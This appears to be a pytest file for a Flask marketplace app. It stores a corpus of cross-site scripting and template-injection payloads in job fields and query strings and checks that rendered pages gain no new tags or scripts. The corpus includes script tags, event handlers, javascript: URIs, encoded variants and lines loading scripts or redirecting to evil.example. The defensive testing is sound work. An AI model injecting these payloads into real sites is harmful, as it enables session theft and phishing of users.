"""Whatever strangers write, a page has the tags and attributes that it has with harmless words."""

from __future__ import annotations

import hashlib
import json
import shutil
from html.parser import HTMLParser

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Engine, update

from marketplace.index.database import open_database, sqlite_url, writing
from marketplace.index.tables import Market as MarketRow
from marketplace.index.tables import Specification
from tests.webapp.conftest import settings_for
from tests.webapp.seed import Seeded
from tests.webapp.wallets import Browser
from webapp.application import create_app

# The known ways to break out of text, attribute, script, comment, address and template, and to be read in another way.
CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><a href=javascript:alert(1)>x",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Withdraw",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "x onmouseover=alert(1) y=",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<\u200bscript>alert(1)</script>",
    "\u2028\u2029alert(1)//",
    "\u202e<script>alert(1)",
    "{{ 7 * 7 }}{% for x in y %}",
    "{{ config.SECRET_KEY }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "`${alert(1)}`",
    '0x"><script>alert(1)</script>.eth',
]


class Structure(HTMLParser):
    """Tags and attributes of a page; of attributes that only carry text, the names alone."""

    CARRY_TEXT = ("title", "aria-label", "data-copy", "value", "placeholder", "alt", "content", "data-block")

    def __init__(self) -> None:
        super().__init__()
        self.found: list[object] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, [(name, "" if name in self.CARRY_TEXT else value) for name, value in attrs]))

    def handle_endtag(self, tag: str) -> None:
        self.found.append(tag)

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", data))


def structure_of(page: str) -> list[object]:
    parser = Structure()
    parser.feed(page)
    return [each for each in parser.found if not is_of_this_visit(each)]


def is_of_this_visit(found: object) -> bool:
    """Whether it carries a token, which differs from answer to answer."""
    return "csrf_token" in str(found) or "data-token" in str(found)


@pytest.fixture(scope="module")
def database(seeded: Seeded, tmp_path_factory: pytest.TempPathFactory) -> Engine:
    """An index of its own, in which anything can be written."""
    place = tmp_path_factory.mktemp("stored") / "index.sqlite"
    shutil.copy(seeded.directory / "index.sqlite", place)
    return open_database(sqlite_url(place))


@pytest.fixture(scope="module")
def site(seeded: Seeded, database: Engine, tmp_path_factory: pytest.TempPathFactory) -> Flask:
    changed = {"database": str(database.url), "store": str(seeded.directory / "store"), "rpc": seeded.rpc}
    return create_app(settings_for(seeded, tmp_path_factory.mktemp("site"), **changed))


@pytest.fixture(scope="module")
def visitor(site: Flask) -> FlaskClient:
    return site.test_client()


@pytest.fixture(scope="module")
def pages(seeded: Seeded, site: Flask, visitor: FlaskClient) -> dict[str, FlaskClient]:
    """Pages with owners' words, and by whom they can be seen."""
    small = seeded.jobs["waiting"]
    owner = Browser(site.test_client(), small.owner).sign_in().client
    trainer = Browser(site.test_client(), small.trainers[0].account).sign_in().client
    place = f"/jobs/{small.job}"
    everybody = dict.fromkeys(["/", place, f"{place}/join", f"/jobs/{seeded.jobs['running'].job}/rounds/1"], visitor)
    return everybody | {f"{place}/owner": owner, f"{place}/trainer": trainer, "/me": owner}


def write(database: Engine, words: str) -> None:
    """Let the specifications of all jobs say nothing else."""
    told = dict.fromkeys(("title", "description", "licence", "datasheet", "model"), words)
    with writing(database) as connection:
        assert connection.execute(update(Specification).values(**told)).rowcount >= 5
        # Pages are kept while the index stands still.
        connection.execute(update(MarketRow).values(block_hash=hashlib.sha256(words.encode()).digest()))


def test_words_change_nothing_but_words(database: Engine, pages: dict[str, FlaskClient]) -> None:
    write(database, "Harmless words")
    shown = {page: client.get(page).text for page, client in pages.items()}
    assert all("Harmless words" in text for text in shown.values())
    harmless = {page: structure_of(text) for page, text in shown.items()}
    for words in CORPUS:
        write(database, words)
        for page, client in pages.items():
            answer = client.get(page)
            assert answer.status_code == 200, (page, words)
            assert "Harmless words" not in answer.text, page
            assert structure_of(answer.text) == harmless[page], (page, words)


QUESTIONS = [("/", "q"), ("/", "reward"), ("/", "task"), ("/", "state"), ("/", "after"), ("/sign-in", "next")]


@pytest.mark.parametrize(("path", "name"), QUESTIONS)
def test_words_in_questions_make_no_script(visitor: FlaskClient, path: str, name: str) -> None:
    allowed = scripts_of(visitor.get(path).text)
    for words in CORPUS:
        answer = visitor.get(path, query_string={name: words})
        assert answer.status_code < 500, words
        assert scripts_of(answer.text) == allowed, words


def scripts_of(page: str) -> set[str]:
    """Scripts, and attributes that are one, of a page."""
    tags = [each for each in structure_of(page) if isinstance(each, tuple) and each[0] != "comment"]
    handlers = {f"{tag} {name}" for tag, attributes in tags for name, _ in attributes if name.startswith("on")}
    return handlers | {str(attributes) for tag, attributes in tags if tag == "script"}


def test_the_api_gives_words_back_as_they_were(seeded: Seeded, database: Engine, visitor: FlaskClient) -> None:
    job = seeded.jobs["waiting"].job
    for words in CORPUS:
        write(database, words)
        answer = visitor.get(f"/api/jobs/{job}")
        assert answer.content_type == "application/json"
        assert json.loads(answer.text)["value"]["line"]["title"] == words
